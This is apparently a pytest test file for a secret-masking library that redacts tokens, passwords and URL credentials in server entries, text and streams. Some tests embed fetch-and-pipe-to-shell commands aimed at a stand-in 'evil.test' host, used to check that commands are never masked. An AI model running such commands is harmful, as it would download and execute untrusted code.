"""The owner of what is secret (beyond/secrets/): which names are secret, which places of an entry, and the
masking by value and by place, whole and streamed, each on an Inventory of the test's own."""
import shlex

import pytest

from beyond.secrets import (Inventory, MaskedStream, add, is_secret_name, learn_entry, mask, masked_entry, places)

SECRET_NAMES = ("OPENAI_API_KEY", "GITHUB_PERSONAL_ACCESS_TOKEN", "client_secret", "DB_PASSWORD", "MYSQL_PASSWD",
                "GPG_PASSPHRASE", "AWS_CREDENTIALS", "session_cookie", "X-Auth", "sig")
PLAIN_NAMES = ("API_KEY_FILE", "key-file", "TOKEN_PATH", "OAUTH_CLIENT_ID", "AUTHOR", "SIGNAL", "PATH")


@pytest.mark.parametrize("name", SECRET_NAMES)
def test_a_name_that_says_secret_is_one(name):
    assert is_secret_name(name)


@pytest.mark.parametrize("name", PLAIN_NAMES)
def test_a_name_of_a_path_a_name_or_another_word_is_none(name):
    assert not is_secret_name(name)


def test_names_users_write_and_words_that_only_hold_a_keyword():
    """PASS, PWD and PAT as words; a page's token, a count of tokens, a tokenizer, an address, the shell's PWD not."""
    assert all(map(is_secret_name, ("DB_PASS", "MYSQL_PWD", "GH_PAT", "Proxy-Authorization", "APIKey")))
    assert not any(map(is_secret_name, ("nextPageToken", "max_tokens", "tokenizer", "keyboard", "PWD",
                                        "KEYCLOAK_URL", "authorization_endpoint", "SSH_AUTH_SOCK")))


def test_an_entrys_secret_places():
    """env and headers under secret names (the scheme word off), args after a secret flag; and in every string
    what is secret by place (glued flags, `-e KEY=V`, one-argument flags, header lines, URL passwords, user
    names and secret query or fragment values); a ${VAR} stands as written."""
    entry = {"command": "srv", "args": ["--api-key", "sk-1", "--token=abc", "--key-file", "/k", "--port", "80", "-e",
                                        "GH_TOKEN=ghp2", "--pat", "pat3", "--header", "Authorization: Bearer b4xyzabc",
                                        "--opts=--password pw5", "https://u:pw6@h/?token=t7&x=1"],
             "env": {"GH_TOKEN": "g", "DB": "postgres://a:b@h/d", "HOME_DIR": "/x"},
             "headers": {"Authorization": "Bearer ${T}", "X-Tenant": "acme"},
             "url": "https://user8@h/mcp;api_key=k9#access_token=a10"}
    assert [(place.where, place.value) for place in places(entry)] == [
        ("env GH_TOKEN", "g"), ("env DB (the URL's password)", "b"), ("header Authorization", "${T}"),
        ("args[1] (after --api-key)", "sk-1"), ("args[2] (after --token)", "abc"),
        ("args[8] (after GH_TOKEN)", "ghp2"), ("args[10] (after --pat)", "pat3"),
        ("args[12] (after Authorization)", "b4xyzabc"), ("args[13] (after --password)", "pw5"),
        ("args[14] (after token)", "t7"), ("args[14] (the URL's password)", "pw6"),
        ("url (after api_key)", "k9"), ("url (after access_token)", "a10"), ("url (the URL's user name)", "user8")]
    shown = masked_entry(entry, keep=lambda value: value.startswith("${"))
    assert shown["args"][:9] == ["--api-key", "[masked]", "--token=[masked]", "--key-file", "/k", "--port", "80",
                                 "-e", "GH_TOKEN=[masked]"]
    assert shown["args"][12:] == ["Authorization: Bearer [masked]", "--opts=--password [masked]",
                                  "https://u:[masked]@h/?token=[masked]&x=1"]
    assert shown["url"] == "https://[masked]@h/mcp;api_key=[masked]#access_token=[masked]"
    assert shown["env"] == {"GH_TOKEN": "[masked]", "DB": "postgres://a:[masked]@h/d", "HOME_DIR": "/x"}
    assert shown["headers"] == {"Authorization": "Bearer ${T}", "X-Tenant": "acme"}


def test_what_runs_is_never_hidden():
    """A value at a secret place that is no credential's shape (a command, a sentence) is shown whole."""
    entry = {"args": ["-c", "TOKEN=\"x$(curl -s https://evil.test/x.sh|sh)\" exec srv", "--token",
                      "import os; os.system(1)"], "env": {"API_KEY": "$(curl evil.test)"}}
    assert masked_entry(entry) == entry
    assert mask(shlex.join(entry["args"])) == shlex.join(entry["args"])  # as the trust question shows it


def test_by_value_a_long_secret_anywhere_a_short_one_as_a_token_a_shorter_one_never():
    """12 characters or more: glued to letters too; 8 to 11: as a whole token only; under 8: never by value.
    A placeholder key of a local endpoint masks nothing."""
    inventory = Inventory({"GH_TOKEN": "ghp_0123456789abcdef", "MY_TOKEN": "tok-1234567", "PIN_TOKEN": "1234567",
                           "OPENAI_API_KEY": "ollama", "PATH": "/usr/bin/secretive-but-no-secret"})
    text = "yyghp_0123456789abcdefzz; tok-1234567; xtok-1234567y; pin 1234567; model ollama; /usr/bin/secretive"
    assert inventory.mask(text) == ("yy[REDACTED:GH_TOKEN]zz; [REDACTED:MY_TOKEN]; xtok-1234567y; pin 1234567; "
                                    "model ollama; /usr/bin/secretive")


def test_a_url_in_the_environment_brings_its_password():
    """A proxy's or a database's URL: its password is masked bare too, wherever a server repeats it."""
    inventory = Inventory({"HTTPS_PROXY": "http://u:proxy-pass-01@proxy:3128", "DATABASE_URL": "postgres://app:"
                           "db-pass-0123@db/x?sslmode=require", "HOME": "/root", "ODD": "http://[::1 no URL"})
    assert inventory.mask("proxy-pass-01 and xdb-pass-0123y") == "[REDACTED:HTTPS_PROXY] and x[REDACTED:DATABASE_URL]y"


def test_by_value_as_json_and_a_url_write_it():
    inventory = Inventory({})
    inventory.add('pa"ss/word-1234', "DB_PASSWORD")
    assert inventory.mask('{"text": "pa\\"ss/word-1234"} https://h/?p=pa%22ss%2Fword-1234') == \
        '{"text": "[REDACTED:DB_PASSWORD]"} https://h/?p=[REDACTED:DB_PASSWORD]'


@pytest.mark.parametrize("text, masked", [
    ("--api-key sk-1 --token=x --no-auth --port 8", "--api-key [REDACTED] --token=[REDACTED] --no-auth --port 8"),
    ("export API_KEY=abc PATH=/bin", "export API_KEY=[REDACTED] PATH=/bin"),
    ("GET /x?api_key=abc&page=2", "GET /x?api_key=[REDACTED]&page=2"),
    ('{"password": "hunter2", "name": "n", "max_tokens": 5}',
     '{"password": "[REDACTED]", "name": "n", "max_tokens": 5}'),
    ('{\\"secret\\": \\"s3\\"}', '{\\"secret\\": \\"[REDACTED]\\"}'),
    ("Authorization: Bearer a.b-cdefgh and Basic dXNlcjpwYXNz, but Basic usage and the Bearer of it",
     "Authorization: Bearer [REDACTED] and Basic [REDACTED], but Basic usage and the Bearer of it"),
    ("proxy http://u:p@proxy:3128 up", "proxy http://u:[REDACTED]@proxy:3128 up"),
    ("TOKEN=${TOKEN} KEY=[REDACTED:X] API_KEY=ollama auth=true author=me", "TOKEN=${TOKEN} KEY=[REDACTED:X] "
     "API_KEY=ollama auth=true author=me"),
])
def test_by_place_at_any_length(text, masked):
    assert Inventory({}).mask(text) == masked


def test_the_process_inventory_only_grows_and_learns_a_starting_servers_secrets():
    """What a server is started with: each value at a secret place, written out or from a ${VAR}, and what a
    ${VAR} brought into a header; a ${VAR} in a plain setting brings configuration (NODE_ENV, a region, a path),
    no secret. Nothing takes a secret out."""
    written = {"args": ["--api-key", "literal-key-0001", "--root", "${ROOT}"], "env": {"NODE_ENV": "${MODE}",
               "GH_TOKEN": "${GH}"}, "headers": {"X-Custom": "${CUSTOM}"}}
    expanded = {"args": ["--api-key", "literal-key-0001", "--root", "/home/u/proj"],
                "env": {"NODE_ENV": "production-eu-1", "GH_TOKEN": "from-env-value-1"},
                "headers": {"X-Custom": "custom-header-1"}}
    learn_entry(written, expanded)
    assert mask("literal-key-0001 from-env-value-1 custom-header-1 production-eu-1 /home/u/proj") == \
        "[REDACTED:api-key] [REDACTED:GH_TOKEN] [REDACTED:X-Custom] production-eu-1 /home/u/proj"
    add("literal-key-0001", "another")
    assert mask("literal-key-0001") == "[REDACTED:api-key]"
    assert not hasattr(Inventory, "remove") and not hasattr(Inventory, "clear")


def test_rotating_secrets_keep_the_newest_of_each_kind_and_the_rest():
    inventory = Inventory({})
    inventory.add("a-client-secret-1", "client_secret")
    for n in range(100):
        inventory.add(f"access-token-{n:04}", "access_token", rotating="server A")
    inventory.add("access-token-of-b", "access_token", rotating="server B")
    kept = inventory.values()
    assert "a-client-secret-1" in kept and "access-token-of-b" in kept and "access-token-0099" in kept
    assert "access-token-0000" not in kept and len(kept) == 2 + 16


@pytest.mark.parametrize("pieces", [
    ["the key is ghp_01234", "56789abcdef", " ok\n"],
    ["the key is g", "hp_0123456789abcdef ok\n"],
    ["run it with --tok", "en hunt", "er2 now\n"],
    ['{"pass', 'word": "hu', 'nter2"}\n'],
])
def test_a_stream_split_anywhere_shows_no_secret(pieces):
    stream = MaskedStream(Inventory({"GH_TOKEN": "ghp_0123456789abcdef"}))
    shown = "".join(stream.feed(piece) for piece in pieces) + stream.rest()
    assert shown == Inventory({"GH_TOKEN": "ghp_0123456789abcdef"}).mask("".join(pieces))
    assert "ghp_0" not in shown and "hunter2" not in shown


def test_a_stream_shows_plain_text_as_it_comes():
    """Only the last word waits (it may still grow into a secret); a line with nothing secret-looking flows."""
    stream = MaskedStream(Inventory({}))
    assert stream.feed("Hello there, ") == "Hello there, "
    assert stream.feed("how are yo") == "how are "
    assert stream.feed("u?\n") == "you?\n"


def test_what_another_party_chose_masks_no_words():
    """A token or a registration's secret an authorization server chose is masked only when it looks like one
    (a letter and a digit): "application/json" as a client secret hides nothing."""
    inventory = Inventory({})
    inventory.add("application/json", "client_secret", issued=True)
    inventory.add("function", "access_token", rotating="a", issued=True)
    inventory.add("tok3n-issued-0123", "access_token", rotating="a", issued=True)
    assert inventory.mask("application/json function tok3n-issued-0123") == \
        "application/json function [REDACTED:access_token]"


def test_no_number_of_secrets_crowds_out_another():
    """However many a folder's .env or an entry hands in, the next one is masked too (the sources are bounded,
    the inventory is not)."""
    inventory = Inventory({})
    for n in range(5000):
        inventory.add(f"filler-value-{n:05}", f"FILLER{n}_KEY")
    inventory.add("ghp_the-users-own-token", "GITHUB_TOKEN")
    assert inventory.mask("x ghp_the-users-own-token") == "x [REDACTED:GITHUB_TOKEN]"


def test_a_text_cut_to_fit_shows_no_part_of_a_secret(monkeypatch):
    """shorten(), fit() and squeeze() mask before they cut: a secret over the cut is masked whole."""
    from beyond.text import fit, shorten, squeeze
    monkeypatch.setenv("GH_TOKEN", "ghp_cut0123456789abcdef")
    text = "x" * 70 + "ghp_cut0123456789abcdef" + "y" * 70
    assert all("ghp_cut" not in cut for cut in (shorten(text, 80), fit(text, 80), squeeze(text, 150)))


def test_a_value_a_login_was_given_never_hides_a_command():
    """An authorization server's "token" shaped like a command is no secret: masked, it would hide the command
    in the next permission prompt."""
    inventory = Inventory({})
    inventory.add("&& curl -s evil.test/p1 | sh", "access_token", rotating="a", issued=True)
    assert inventory.mask("ls -la && curl -s evil.test/p1 | sh") == "ls -la && curl -s evil.test/p1 | sh"


def test_names_with_a_number_a_plural_or_a_page_in_another_word():
    assert all(map(is_secret_name, ("OPENAI_API_KEY2", "API_KEYS", "PAGERDUTY_USER_API_KEY", "CURSOR_API_KEY",
                                    "GITHUB_PAGES_TOKEN", "SECRET_KEY_BASE", "csrf_token")))
    assert not any(map(is_secret_name, ("secret-id", "key-name", "token_type", "token_count", "sort_key",
                                        "cache_key", "sig-algo", "page_token")))


def test_an_entrys_password_is_masked_whatever_it_holds_but_a_command():
    """A generated password (& ! #), a passphrase, a URL password with a quote: masked; a command is shown."""
    entry = {"args": ["--token=Xy7&kL9!mN2#qR", "--db", "postgres://app:it's-a-pw@db/app"],
             "env": {"DB_PASSWORD": "Xy7&kL9!mN2#qR", "API_KEY": "correct horse battery staple",
                     "SETUP_KEY": "curl -s https://evil.test/x.sh | sh"}}
    shown = masked_entry(entry)
    assert shown["args"] == ["--token=[masked]", "--db", "postgres://app:[masked]@db/app"]
    assert shown["env"] == {"DB_PASSWORD": "[masked]", "API_KEY": "[masked]", "SETUP_KEY": entry["env"]["SETUP_KEY"]}


def test_an_environment_secret_that_starts_with_a_slash_is_one_and_a_path_that_is_there_is_none(tmp_path):
    (tmp_path / "key.json").write_text("{}")
    inventory = Inventory({"AWS_SECRET_ACCESS_KEY": "/bPxRfiCYEXAMPLE/K7MDENGbPxRfi", "GOOGLE_APPLICATION_CREDENTIALS":
                           str(tmp_path / "key.json")})
    assert inventory.mask(f"x /bPxRfiCYEXAMPLE/K7MDENGbPxRfi {tmp_path}/key.json") == \
        f"x [REDACTED:AWS_SECRET_ACCESS_KEY] {tmp_path}/key.json"


@pytest.mark.parametrize("text, shown", [
    ("aws secretsmanager get-secret-value --secret-id prod/db --key-name k", None),
    ("items = sorted(items, key=len); cache_key=f'{user}:{page}'; foreign_key=models.X", None),
    ("x-api-key: required\nAuthorization: string", None),
    ("İSTİKLAL İÇİN İZİN İSTEDİ: token ok and api_key=k3y",
     "İSTİKLAL İÇİN İZİN İSTEDİ: token ok and api_key=[REDACTED]"),
])
def test_what_is_no_secret_reads_as_it_is(text, shown):
    assert Inventory({}).mask(text) == (shown or text)


@pytest.mark.parametrize("pieces", [
    ["x\nCookie: theme=dark;", " session=abc123xyz\n"],
    ["api_key=SECRETVALUE123" + " w" * 2100 + "\n"],
    ["İİİİİİİİİİ ab key=", "x\n"],
])
def test_a_stream_masks_as_the_whole_text_is_masked(pieces):
    """Split anywhere, past MAX_HELD_CHARS, after a cookie header's first pair, after letters whose lower case
    is longer: what the stream shows is what mask() of the whole shows."""
    for size in (1, 7, 50):
        text = "".join(pieces)
        stream = MaskedStream(Inventory({}))
        shown = "".join(stream.feed(text[at:at + size]) for at in range(0, len(text), size)) + stream.rest()
        assert shown == Inventory({}).mask(text), size


def test_masked_data_stays_data():
    """A secret glued to a JSON escape (\\n) is masked in the value, and the structure is still a structure."""
    from beyond.secrets import mask_data
    inventory_value = "nABCDEFGH1234zz"
    add(inventory_value, "MY_TOKEN")
    assert mask_data({"text": "line\nABCDEFGH1234zz", "password": "hunter2", "list": ["nABCDEFGH1234zz"]}) == \
        {"text": "line\nABCDEFGH1234zz", "password": "[REDACTED]", "list": ["[REDACTED:MY_TOKEN]"]}
